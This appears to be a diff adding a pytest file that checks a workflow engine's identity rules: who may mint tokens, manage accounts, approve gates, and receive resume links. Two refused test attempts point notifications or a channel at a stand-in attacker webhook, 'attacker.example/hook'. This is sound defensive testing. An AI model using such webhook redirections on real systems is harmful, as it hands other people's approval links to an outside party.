@@ -1,0 +1,269 @@
+"""Identities are accounts, not names (issue 22, finding 4), attacked through the real doors: the
+CLI as root and as another OS account, the HTTP API with bearer tokens, the resume-link ingress
+and a real conductor delivering notifications.
+
+- A recipe cannot choose whose resume link goes where: `notify … as:` is refused at validation,
+  and a link goes only to a channel its subject registered.
+- A token minted by root for alice decides as "alice, via a token minted by root": in the thread,
+  the decision and its audit.
+- Only an admin mints a token for another account (or adds and removes accounts).
+- The person who started a run may not decide its gates, unless the gate allows self-approval.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+import urllib.error
+import urllib.request
+from pathlib import Path
+
+import pytest
+
+from engine_adapter import harness
+from engine_adapter.identity import os_user
+from engine_adapter.recipes import RecipeError, load_recipe_text
+from engine_adapter.settings import DATABASE_URL_ENV, HOME_ENV
+
+GATED = """
+slug: gated
+steps:
+  - id: ship
+    human_gate: "Ship it?"
+    {extra}
+"""
+
+
+def gated(apply, extra: str = "") -> str:
+    return apply(GATED.replace("{extra}", extra))
+
+
+def cli_as_nobody(url: str, home: Path, *args: str) -> subprocess.CompletedProcess[str]:
+    """`threadline ARGS` run by another OS account (nobody) that was given the console's
+    database login: it acts as itself, never as the install's admin."""
+    env = dict(
+        os.environ,
+        **{DATABASE_URL_ENV: url, HOME_ENV: str(home), "PYTHONDONTWRITEBYTECODE": "1"},
+    )
+    return subprocess.run(
+        ["setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups"]
+        + [sys.executable, "-m", "engine_adapter.cli", *args],
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
+
+
+def console_api(procs) -> str:
+    """A conductor and a console serving the HTTP API; its base URL."""
+    procs.start("conductor")
+    port = harness.free_port()
+    procs.start("console", args=["--port", str(port)])
+    base = f"http://127.0.0.1:{port}/api/v1"
+    harness.wait_for(
+        lambda: harness.answers(base + "/openapi.json"), timeout=90, what="the console"
+    )
+    return base
+
+
+def api(base: str, path: str, token: str, body: dict) -> tuple[int, dict]:
+    request = urllib.request.Request(
+        base + path,
+        data=json.dumps(body).encode(),
+        method="POST",
+        headers={"Content-Type": "application/json", "Authorization": f"Bearer {token}"},
+    )
+    try:
+        with urllib.request.urlopen(request, timeout=30) as response:
+            return response.status, json.loads(response.read())
+    except urllib.error.HTTPError as err:
+        return err.code, json.loads(err.read())
+
+
+def rows(conn, sql: str, *params) -> list[dict]:
+    return conn.execute(sql, params).fetchall()
+
+
+# -- a recipe never chooses whose link goes where ----------------------------------------------
+NOTIFY_AS = """
+slug: notify-as
+steps:
+  - id: ship
+    human_gate: "Ship it?"
+    approvers: [alice]
+notify:
+  - when: [gate]
+    webhook: https://attacker.example/hook
+    as: alice
+"""
+
+
+def test_notify_as_is_refused_at_validation_saying_what_replaces_it(db_url, conn, tmp_path):
+    with pytest.raises(RecipeError) as refused:
+        load_recipe_text(NOTIFY_AS)
+    (error,) = refused.value.errors
+    assert error.startswith("notify[0].as:") and "to: [alice]" in error, error
+    recipe = tmp_path / "notify-as.yaml"
+    recipe.write_text(NOTIFY_AS)
+    for command in ("validate", "apply"):
+        done = harness.run_cli(db_url, "recipe", command, str(recipe))
+        assert done.returncode == 10 and "notify[0].as:" in done.stdout + done.stderr
+    assert rows(conn, "select slug from threadline.workflows") == []
+
+
+# -- a delegated token is visibly delegated ----------------------------------------------------
+def test_a_token_minted_by_root_for_alice_decides_visibly_delegated(db_url, conn, apply, procs):
+    gated(apply, "approvers: [alice]")
+    root = os_user()
+    assert harness.run_cli(db_url, "user", "add", "alice").returncode == 0
+    minted = harness.run_cli(db_url, "token", "create", "alice", "--role", "approver")
+    assert minted.returncode == 0, minted.stderr
+    assert f"minted by {root}" in minted.stderr
+    listed = json.loads(harness.run_cli(db_url, "token", "list", "--json").stdout)
+    assert [(t["name"], t["account"], t["minted_by"]) for t in listed] == [("alice", "alice", root)]
+
+    from engine_adapter.spawn import spawn
+
+    base = console_api(procs)
+    run_id = spawn(conn, "gated").run_id
+    harness.wait_for_state(procs.url, run_id, "waiting")
+    status, answer = api(base, f"/runs/{run_id}/approve", minted.stdout.strip(), {"reason": "ok"})
+    assert status == 200, answer
+    view = harness.wait_for_state(procs.url, run_id, "completed")
+    shown = f"alice, via a token minted by {root}"
+    decision = next(e for e in view["thread"] if e["kind"] == "decision")
+    assert decision["author"] == shown
+    (entry,) = rows(conn, "select data from threadline.thread_entries where kind = 'decision'")
+    assert entry["data"]["minted_by"] == root and entry["data"]["actor"] == "alice"
+    assert rows(conn, "select actor, via, minted_by from threadline.decisions") == [
+        {"actor": "alice", "via": "api", "minted_by": root}
+    ]
+    assert rows(conn, "select actor, via, outcome, minted_by from threadline.decision_audit") == [
+        {"actor": "alice", "via": "api", "outcome": "decided", "minted_by": root}
+    ]
+    shown_by_cli = harness.run_cli(db_url, "show", run_id).stdout
+    assert shown in shown_by_cli
+
+
+def test_a_name_with_no_account_matches_nobody_and_a_removed_account_decides_nothing(
+    db_url, conn, apply, procs
+):
+    from engine_adapter import gates
+    from engine_adapter.identity import Actor
+    from engine_adapter.spawn import spawn
+
+    gated(apply, "approvers: [alice]")
+    procs.start("conductor")
+    run_id = spawn(conn, "gated").run_id
+    harness.wait_for_state(procs.url, run_id, "waiting")
+    alice = Actor("alice", "console", roles=frozenset({"approver"}))
+    # Removed before first use: the name stays unusable until an admin adds it again.
+    assert harness.run_cli(db_url, "user", "add", "alice").returncode == 0
+    assert harness.run_cli(db_url, "user", "remove", "alice").returncode == 0
+    with pytest.raises(gates.DecisionRefused, match="account alice was removed"):
+        gates.decide(conn, run_id, "approve", alice)
+    assert rows(conn, "select * from threadline.decisions") == []
+    assert harness.run_cli(db_url, "user", "add", "alice").returncode == 0
+    gates.decide(conn, run_id, "approve", alice)  # a new account of that name: hers now
+
+
+# -- only an admin speaks for another account --------------------------------------------------
+def test_a_non_admin_cannot_mint_for_another_account_or_manage_accounts(
+    db_url, conn, logins, tmp_path
+):
+    assert harness.run_cli(db_url, "user", "add", "alice").returncode == 0
+    home = tmp_path / "nobody-home"
+    home.mkdir()
+    console = logins["console"]
+    before = rows(conn, "select count(*) as n from threadline.api_tokens")
+    for args in (
+        ("token", "create", "alice", "--role", "approver"),
+        ("user", "add", "mallory"),
+        ("user", "remove", "alice"),
+        ("user", "channel", "add", "alice", "--webhook", "https://attacker.example/hook"),
+    ):
+        refused = cli_as_nobody(console, home, *args)
+        assert refused.returncode == 2, (args, refused.stdout, refused.stderr)
+        assert "admin action" in refused.stderr, refused.stderr
+    assert rows(conn, "select count(*) as n from threadline.api_tokens") == before
+    assert rows(conn, "select name from threadline.accounts where removed_at is null") == [
+        {"name": "alice"}
+    ]
+    assert rows(conn, "select * from threadline.account_channels") == []
+    # Their own account is theirs: made on first use, with the channels they register.
+    own = cli_as_nobody(console, home, "user", "channel", "add", "nobody", "--email", "n@x.example")
+    assert own.returncode == 0, own.stderr
+    assert rows(
+        conn,
+        "select a.name, c.channel, c.target, c.added_by from threadline.account_channels c "
+        "join threadline.accounts a on a.id = c.account_id",
+    ) == [{"name": "nobody", "channel": "email", "target": "n@x.example", "added_by": "nobody"}]
+
+
+# -- self-approval -----------------------------------------------------------------------------
+def test_the_runs_initiator_may_not_decide_its_gate_unless_it_allows_self_approval(
+    db_url, conn, apply, procs
+):
+    me = os_user()
+    gated(apply, f"approvers: [{me}, alice]")
+    procs.start("conductor")
+    run_id = harness.run_cli(db_url, "spawn", "gated").stdout.strip()
+    harness.wait_for_state(procs.url, run_id, "waiting")
+    refused = harness.run_cli(db_url, "approve", run_id)
+    assert refused.returncode == 2 and f"{me} started this run" in refused.stderr
+    thumbs = harness.run_cli(db_url, "reply", run_id, "👍")  # kept, decides nothing
+    assert thumbs.returncode == 0
+    assert rows(conn, "select * from threadline.decisions") == []
+    audit = rows(conn, "select actor, outcome, why from threadline.decision_audit order by id")
+    assert [(a["actor"], a["outcome"]) for a in audit] == [(me, "refused"), (me, "refused")]
+    assert all("started this run" in a["why"] for a in audit)
+    assert harness.wait_for_state(procs.url, run_id, "waiting")["state"] == "waiting"
+
+    gated(apply, f"approvers: [{me}, alice]\n    self_approval: true")
+    run_id = harness.run_cli(db_url, "spawn", "gated").stdout.strip()
+    harness.wait_for_state(procs.url, run_id, "waiting")
+    allowed = harness.run_cli(db_url, "approve", run_id)
+    assert allowed.returncode == 0, allowed.stderr
+    harness.wait_for_state(procs.url, run_id, "completed")
+
+
+def test_a_child_runs_gate_refuses_the_person_who_started_its_parent(db_url, conn, apply, procs):
+    apply("slug: child-gate\nsteps:\n  - id: ok\n    human_gate: 'Child ok?'\n")
+    apply("slug: parent\nsteps:\n  - id: sub\n    workflow: child-gate\n")
+    procs.start("conductor")
+    parent = harness.run_cli(db_url, "spawn", "parent").stdout.strip()
+    child = harness.wait_for(
+        lambda: conn.execute(
+            "select run_id from threadline.run_threads where parent_run_id = %s and awaiting",
+            (parent,),
+        ).fetchone(),
+        timeout=30,
+        what="the child run's gate",
+    )["run_id"]
+    harness.wait_for_state(procs.url, str(child), "waiting")
+    refused = harness.run_cli(db_url, "approve", str(child))
+    assert refused.returncode == 2 and "started this run" in refused.stderr
+
+
+def test_a_resume_tokens_subject_with_no_account_matches_nobody(db_url, conn, apply, procs):
+    """A link issued for a bare name (as `notify … as: bob` did) decides as no account, through
+    the ingress or `threadline resume` alike, until an account of that name exists."""
+    from engine_adapter import resume_tokens
+    from engine_adapter.spawn import spawn
+
+    gated(apply, "approvers: [bob]")
+    procs.start("conductor")
+    run_id = spawn(conn, "gated").run_id
+    key = harness.wait_for_state(procs.url, run_id, "waiting")["gate"]["key"]
+    token = resume_tokens.issue(conn, run_id, key, "bob", "link").token
+    request = json.dumps({"run_id": run_id, "resume_token": token})
+    refused = harness.run_cli(db_url, "resume", stdin=request)
+    assert refused.returncode == 20 and "bob is not an approver" in refused.stdout
+    assert rows(conn, "select * from threadline.accounts") == []  # not made by its use
+    assert harness.run_cli(db_url, "user", "add", "bob").returncode == 0
+    done = harness.run_cli(db_url, "resume", stdin=request)
+    assert done.returncode == 0, done.stdout
+    harness.wait_for_state(procs.url, run_id, "completed")
